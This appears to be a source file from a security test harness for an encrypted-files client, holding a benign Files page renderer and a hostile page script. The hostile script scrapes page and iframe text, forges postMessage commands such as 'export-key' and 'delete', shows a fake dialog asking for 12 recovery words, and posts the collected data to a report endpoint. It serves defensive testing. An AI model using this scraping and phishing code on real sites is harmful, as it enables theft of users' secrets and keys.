/**
 * Browser scripts served by the stand-in: the Files page renderer (PROPFIND without the E2EE header,
 * History API navigation) and the hostile page script (what a malicious server could try from the page).
 */

export const FILES_PAGE_SCRIPT = String.raw`(function () {
  'use strict';
  var body = document.body;
  var user = body.dataset.user;
  var rt = body.dataset.requesttoken || '';
  var homeId = body.dataset.homeFileid;
  var davBase = '/remote.php/dav/files/' + encodeURIComponent(user);
  var prefix = location.pathname.indexOf('/index.php/') === 0 ? '/index.php' : '';
  var PROPS = '<?xml version="1.0"?><d:propfind xmlns:d="DAV:" xmlns:oc="http://owncloud.org/ns" xmlns:nc="http://nextcloud.org/ns"><d:prop>' +
    '<d:resourcetype/><d:getcontentlength/><d:getlastmodified/><d:getetag/><oc:fileid/><oc:permissions/><oc:size/><nc:is-encrypted/></d:prop></d:propfind>';
  function encPath(p) { return p.split('/').map(encodeURIComponent).join('/'); }
  function currentDir() { return new URL(location.href).searchParams.get('dir') || '/'; }
  function pageUrl(fileid, dir) { return prefix + '/apps/files/files/' + fileid + '?dir=' + encodeURIComponent(dir); }
  function human(n) {
    if (n < 1024) return n + ' B';
    var u = ['KB', 'MB', 'GB', 'TB'], i = -1;
    do { n /= 1024; i++; } while (n >= 1024 && i < u.length - 1);
    return n.toFixed(1) + ' ' + u[i];
  }
  function text(el, ns, name) { var x = el.getElementsByTagNameNS(ns, name)[0]; return x ? x.textContent : ''; }
  function parse(xml) {
    var doc = new DOMParser().parseFromString(xml, 'application/xml');
    var out = [];
    var rs = doc.getElementsByTagNameNS('DAV:', 'response');
    for (var i = 0; i < rs.length; i++) {
      var r = rs[i];
      var href = decodeURIComponent(text(r, 'DAV:', 'href'));
      var rel = href.slice(davBase.length).replace(/\/$/, '') || '/';
      out.push({
        path: rel,
        name: rel.split('/').pop(),
        dir: r.getElementsByTagNameNS('DAV:', 'collection').length > 0,
        size: Number(text(r, 'http://owncloud.org/ns', 'size') || text(r, 'DAV:', 'getcontentlength') || 0),
        mtime: text(r, 'DAV:', 'getlastmodified'),
        fileid: text(r, 'http://owncloud.org/ns', 'fileid'),
        encrypted: text(r, 'http://nextcloud.org/ns', 'is-encrypted') === '1',
      });
    }
    return out;
  }
  function el(tag, attrs, kids) {
    var e = document.createElement(tag);
    Object.keys(attrs || {}).forEach(function (k) { e.setAttribute(k, attrs[k]); });
    (kids || []).forEach(function (k) { e.appendChild(typeof k === 'string' ? document.createTextNode(k) : k); });
    return e;
  }
  function breadcrumbs(dir, ids) {
    var nav = document.querySelector('[data-cy-files-content-breadcrumbs]');
    nav.textContent = '';
    var parts = dir.split('/').filter(Boolean);
    var acc = '';
    nav.appendChild(link(el('a', { href: pageUrl(homeId, '/'), 'data-cy-files-content-breadcrumb': '/' }, ['All files']), homeId, '/'));
    parts.forEach(function (p) {
      acc += '/' + p;
      var a = el('a', { href: pageUrl(ids[acc] || homeId, acc), 'data-cy-files-content-breadcrumb': acc }, [p]);
      nav.appendChild(document.createTextNode(' / '));
      nav.appendChild(link(a, ids[acc] || homeId, acc));
    });
  }
  var knownIds = {};
  function link(a, fileid, dir) {
    a.addEventListener('click', function (ev) { ev.preventDefault(); navigate(fileid, dir); });
    return a;
  }
  function navigate(fileid, dir) {
    history.pushState({ dir: dir, fileid: fileid }, '', pageUrl(fileid, dir));
    load();
  }
  function render(dir, items, error) {
    var view = document.getElementById('files-view');
    view.textContent = '';
    breadcrumbs(dir, knownIds);
    if (error) {
      view.appendChild(el('div', { 'data-cy-files-content-error': '', class: 'files-list__error empty-content' }, [
        el('h2', {}, ['Error']), el('p', {}, ['This folder could not be opened (' + error + ').'])]));
      return;
    }
    var children = items.slice(1);
    if (!children.length) {
      view.appendChild(el('div', { 'data-cy-files-content-empty': '', class: 'empty-content' }, [el('h2', {}, ['No files in here'])]));
      return;
    }
    var tbody = el('tbody', { class: 'files-list__tbody', 'data-cy-files-list-tbody': '' });
    children.sort(function (a, b) { return a.dir === b.dir ? a.name.localeCompare(b.name) : a.dir ? -1 : 1; });
    children.forEach(function (it) {
      knownIds[it.path] = it.fileid;
      var a = el('a', { class: 'files-list__row-name-link', 'data-cy-files-list-row-name-link': '',
        href: it.dir ? pageUrl(it.fileid, it.path) : davBase + encPath(it.path) }, [el('span', { class: 'files-list__row-name-text' }, [it.name])]);
      if (it.dir) link(a, it.fileid, it.path);
      tbody.appendChild(el('tr', { class: 'files-list__row', 'data-cy-files-list-row': '', 'data-cy-files-list-row-fileid': it.fileid,
        'data-cy-files-list-row-name': it.name }, [
        el('td', { class: 'files-list__row-checkbox', 'data-cy-files-list-row-checkbox': '' }, [el('input', { type: 'checkbox', 'aria-label': 'Select' })]),
        el('td', { class: 'files-list__row-name', 'data-cy-files-list-row-name': '' }, [a]),
        el('td', { class: 'files-list__row-actions', 'data-cy-files-list-row-actions': '' }, []),
        el('td', { class: 'files-list__row-size', 'data-cy-files-list-row-size': '' }, [human(it.size)]),
        el('td', { class: 'files-list__row-mtime', 'data-cy-files-list-row-mtime': '' }, [it.mtime ? new Date(it.mtime).toLocaleString() : '']),
      ]));
    });
    var table = el('table', { class: 'files-list__table' }, [
      el('thead', { 'data-cy-files-list-thead': '' }, [el('tr', {}, [el('th', {}, ['']), el('th', {}, ['Name']), el('th', {}, ['']), el('th', {}, ['Size']), el('th', {}, ['Modified'])])]),
      tbody,
      el('tfoot', { 'data-cy-files-list-tfoot': '' }, [el('tr', {}, [el('td', { colspan: '5' }, [children.length + ' items'])])]),
    ]);
    view.appendChild(el('div', { class: 'files-list', 'data-cy-files-list': '' }, [table]));
  }
  function load() {
    var dir = currentDir();
    return fetch(davBase + encPath(dir), { method: 'PROPFIND', credentials: 'same-origin',
      headers: { Depth: '1', 'Content-Type': 'application/xml; charset=utf-8', requesttoken: rt, 'X-Requested-With': 'XMLHttpRequest' }, body: PROPS })
      .then(function (res) {
        if (res.status !== 207) { render(dir, [], 'HTTP ' + res.status); return; }
        return res.text().then(function (t) {
          var items = parse(t);
          if (items[0]) knownIds[dir.replace(/\/$/, '') || '/'] = items[0].fileid;
          render(dir, items, null);
        });
      })
      .catch(function (e) { render(dir, [], String(e)); });
  }
  window.addEventListener('popstate', load);
  window.__standInFiles = { load: load, navigate: navigate };
  load();
})();
`;

export const HOSTILE_SCRIPT = String.raw`(function () {
  'use strict';
  var report = window.__hostileReport = { domTexts: [], iframeAccess: [], messages: [], forgedPosts: [], phishingShown: [] };
  var seenText = {};
  var seenFrame = {};
  var pageId = Math.random().toString(36).slice(2);
  function clone(x) { try { return JSON.parse(JSON.stringify(x)); } catch (e) { return String(x); } }
  function addText(where, t) {
    t = (t || '').trim();
    if (!t || t.length > 2000) return;
    var k = where + '|' + t;
    if (seenText[k]) return;
    seenText[k] = 1;
    if (report.domTexts.length < 2000) report.domTexts.push({ where: where, text: t });
  }
  function walk(root, where) {
    var all;
    try { all = root.querySelectorAll('*'); } catch (e) { return; }
    for (var i = 0; i < all.length; i++) {
      var n = all[i];
      if (n.id === 'hostile-phishing' || n.tagName === 'STYLE' || n.tagName === 'SCRIPT') continue;
      for (var c = n.firstChild; c; c = c.nextSibling) if (c.nodeType === 3) addText(where, c.nodeValue);
      if ((n.tagName === 'INPUT' || n.tagName === 'TEXTAREA') && n.value) addText(where + ':value', n.value);
      if (n.shadowRoot) walk(n.shadowRoot, where + ' >shadow(' + n.tagName.toLowerCase() + ')');
      if (n.tagName === 'IFRAME' || n.tagName === 'FRAME') probeFrame(n, where);
    }
  }
  function probeFrame(f, where) {
    var src = f.getAttribute('src') || f.src || '(no src)';
    var entry = { where: where, src: src, id: f.id || '', contentDocument: 'null', windowDocument: 'null' };
    try {
      var d = f.contentDocument;
      if (d) { entry.contentDocument = 'accessible'; walk(d, where + ' >iframe(' + src + ')'); }
    } catch (e) { entry.contentDocument = 'error: ' + (e && e.name); }
    try {
      var w = f.contentWindow;
      var d2 = w && w.document;
      if (d2) { entry.windowDocument = 'accessible'; walk(d2, where + ' >iframe-window(' + src + ')'); }
    } catch (e) { entry.windowDocument = 'error: ' + (e && e.name); }
    var k = JSON.stringify(entry);
    if (!seenFrame[k]) { seenFrame[k] = 1; report.iframeAccess.push(entry); }
  }
  window.addEventListener('message', function (e) {
    if (report.messages.length < 500) report.messages.push({ origin: e.origin, data: clone(e.data) });
  }, true);
  var FORGED = [
    { type: 'open-folder', path: '/', fileId: 1 },
    { type: 'delete', path: '/', ids: ['*'] },
    { type: 'export-key' },
    { type: 'show-recovery-words' },
    { cipherfold: true, type: 'unlock', words: 'abandon abandon abandon' },
  ];
  function forge() {
    var frames = [];
    var ifr = document.querySelectorAll('iframe, frame');
    for (var i = 0; i < ifr.length; i++) frames.push({ src: ifr[i].src || '(no src)', win: ifr[i].contentWindow });
    frames.push({ src: 'window.parent', win: window.parent });
    frames.push({ src: 'window.top', win: window.top });
    frames.forEach(function (f) {
      var msgs = FORGED.concat([{ random: Math.random(), payload: Math.random().toString(36) }]);
      msgs.forEach(function (m) {
        var rec = { target: f.src, message: m, result: 'posted' };
        try { if (!f.win) rec.result = 'no window'; else f.win.postMessage(m, '*'); } catch (e) { rec.result = 'error: ' + (e && e.name); }
        if (report.forgedPosts.length < 500) report.forgedPosts.push(rec);
      });
    });
  }
  function phish() {
    if (document.getElementById('hostile-phishing')) return;
    var d = document.createElement('div');
    d.id = 'hostile-phishing';
    d.setAttribute('role', 'dialog');
    d.style.cssText = 'position:fixed;inset:0;background:rgba(0,0,0,.5);z-index:2147483647;display:flex;align-items:center;justify-content:center';
    d.innerHTML = '<form style="background:#fff;padding:24px;border-radius:8px;max-width:420px;font-family:sans-serif">' +
      '<h2>Cipherfold</h2><p>Your session expired. Enter your 12 recovery words to unlock your encrypted folders.</p>' +
      '<textarea id="hostile-recovery-words" rows="3" style="width:100%"></textarea>' +
      '<button type="submit" id="hostile-submit">Unlock</button></form>';
    var entry = { at: Date.now(), words: '' };
    report.phishingShown.push(entry);
    d.querySelector('form').addEventListener('submit', function (ev) {
      ev.preventDefault();
      entry.words = d.querySelector('textarea').value;
      send();
    });
    document.body.appendChild(d);
  }
  function send() {
    try {
      fetch('/__hostile/report', { method: 'POST', headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify(Object.assign({ pageId: pageId, url: location.href }, report)) }).catch(function () {});
    } catch (e) { /* ignore */ }
  }
  var rounds = 0;
  function round() {
    rounds++;
    walk(document, 'document');
    forge();
    if (rounds === 2) phish();
    send();
  }
  round();
  var timer = setInterval(function () { round(); if (rounds > 40) clearInterval(timer); }, 750);
  var pending = null;
  new MutationObserver(function () {
    if (pending) return;
    pending = setTimeout(function () { pending = null; walk(document, 'document'); send(); }, 200);
  }).observe(document.documentElement, { childList: true, subtree: true });
})();
`;
